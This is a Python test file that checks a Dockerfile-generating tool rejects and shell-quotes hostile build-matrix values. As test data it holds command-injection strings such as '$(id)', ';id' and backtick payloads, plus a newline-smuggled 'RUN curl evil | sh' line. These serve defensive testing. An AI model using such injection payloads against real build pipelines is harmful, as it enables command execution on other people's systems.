"""The matrix is input like the spec: a hostile --matrix DIR (a fork, a pull request, a refresh
proposal) is refused before any of its values reach a Dockerfile, and the templates shell-quote every
word they write into a RUN line anyway, so a value that slipped past a check still cannot chain a
command (issue 33)."""

from __future__ import annotations

from pathlib import Path

import pytest

from envbuild.cli.app import main
from envbuild.errors import UsageError
from envbuild.matrix.load import load_matrix
from envbuild.render.context import dockerfile_environment

GOOD_INDEX = 'index_url = "https://download.pytorch.org/whl/cu126"'
GOOD_IMAGE = 'image = "ubuntu:22.04"'
HOSTILE_INDEX_URLS = [
    "https://x/simple;id",
    "https://x/$(id)",
    "https://x/`id`",
    "https://x/${IFS}id",
    "https://x/simple|id",
    "https://x/simple id",
]


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text()
    assert old in text, f"fixture drift: {old!r} not in {path.name}"
    path.write_text(text.replace(old, new, 1))


def _check(capsys: pytest.CaptureFixture[str], root: Path) -> tuple[int, str]:
    code = main(["matrix", "check", "--matrix", str(root)])
    out, err = capsys.readouterr()
    return code, out + err


def _torch(root: Path) -> Path:
    return root / "frameworks" / "torch.toml"


@pytest.mark.parametrize("hostile", HOSTILE_INDEX_URLS)
def test_check_refuses_a_shell_index_url(
    capsys: pytest.CaptureFixture[str], matrix_copy: Path, hostile: str
) -> None:
    _edit(_torch(matrix_copy), GOOD_INDEX, f"index_url = {hostile!r}".replace("'", '"'))
    code, out = _check(capsys, matrix_copy)
    assert code == 1, out  # `matrix check` reports a failed check (exit 1), as for every broken row
    assert "frameworks/torch.toml" in out and "index_url" in out
    assert "plain http(s) URL" in out
    assert "Traceback" not in out


def test_check_refuses_a_newline_in_an_os_image(
    capsys: pytest.CaptureFixture[str], matrix_copy: Path
) -> None:
    _edit(matrix_copy / "os.toml", GOOD_IMAGE, 'image = "ubuntu:22.04\\nRUN curl evil | sh"')
    code, out = _check(capsys, matrix_copy)
    assert code == 1, out  # `matrix check` reports a failed check (exit 1), as for every broken row
    assert "os.toml" in out and "image" in out and "image reference" in out


def test_check_refuses_a_shell_name(capsys: pytest.CaptureFixture[str], matrix_copy: Path) -> None:
    _edit(matrix_copy / "os.toml", 'name = "ubuntu22.04"', 'name = "ubuntu22.04;id"')
    code, out = _check(capsys, matrix_copy)
    assert code == 1, out  # `matrix check` reports a failed check (exit 1), as for every broken row
    assert "os.toml" in out and "name" in out and "expected a name" in out


def test_load_refuses_a_hostile_matrix(matrix_copy: Path) -> None:
    """render, lock and every other reader load through the same gate, not only `matrix check`."""
    _edit(_torch(matrix_copy), GOOD_INDEX, 'index_url = "https://x/$(id)"')
    with pytest.raises(UsageError) as caught:
        load_matrix(matrix_copy)
    assert "frameworks/torch.toml" in str(caught.value) and "index_url" in str(caught.value)


def test_a_newline_in_a_free_text_field_is_refused(matrix_copy: Path) -> None:
    """Notes and labels reach Dockerfile comments, where a line end would be an instruction."""
    _edit(matrix_copy / "os.toml", GOOD_IMAGE, GOOD_IMAGE + '\nnote = "fine\\nRUN id"')
    with pytest.raises(UsageError, match=r"note.*newline"):
        load_matrix(matrix_copy)


def test_the_bundled_matrix_still_loads() -> None:
    matrix = load_matrix()
    assert matrix.frameworks


def _pip_sources(index: str, extra: list[str], find_links: str | None) -> str:
    env = dockerfile_environment()
    template = env.from_string(
        '{% import "dockerfile/_macros.j2" as m with context %}'
        "{{ m.pip_sources(plan, index, find_links, extra, []) }}"
    )
    plan = {"locked": False, "wheelhouse": False, "installer": "pip"}
    return template.render(plan=plan, index=index, find_links=find_links, extra=extra)


def test_run_lines_shell_quote_values_that_passed_validation() -> None:
    """The second wall: the macro quotes whatever it is given, so no template can forget."""
    line = _pip_sources("https://x/a b", ["https://y/$HOME"], "https://z/`id`")
    assert "--index-url 'https://x/a b'" in line
    assert "--extra-index-url 'https://y/$HOME'" in line
    assert "--find-links 'https://z/`id`'" in line


def test_plain_values_stay_unquoted() -> None:
    """shlex.quote leaves plain URLs alone, so rendered Dockerfiles of normal specs do not change."""
    line = _pip_sources("https://download.pytorch.org/whl/cu126", [], None)
    assert line == "--index-url https://download.pytorch.org/whl/cu126"
